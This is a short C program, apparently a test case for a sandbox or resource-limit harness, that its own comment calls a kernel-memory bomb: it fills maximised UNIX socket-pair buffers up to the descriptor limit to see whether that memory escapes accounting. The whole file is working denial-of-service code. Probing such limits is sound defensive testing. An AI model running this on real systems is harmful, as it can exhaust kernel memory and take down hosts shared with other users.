// Attack: a kernel-memory bomb in socket buffers. Opens UNIX socket pairs, asks for the largest
// send and receive buffers, and fills each until it would block, as many pairs as the
// descriptor limit allows, hoping socket memory is not charged to the run. Reports how many
// bytes it queued (if it gets to).
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
    static char chunk[64 * 1024];
    memset(chunk, 's', sizeof chunk);
    long queued = 0;
    for (;;) {
        int sv[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) != 0)
            break;
        int big = 1 << 30;
        setsockopt(sv[0], SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
        setsockopt(sv[1], SOL_SOCKET, SO_RCVBUF, &big, sizeof big);
        fcntl(sv[0], F_SETFL, O_NONBLOCK);
        for (;;) {
            ssize_t n = write(sv[0], chunk, sizeof chunk);
            if (n <= 0)
                break;
            queued += n;
        }
    }
    printf("queued %ld bytes in socket buffers\n", queued);
    return 0;
}
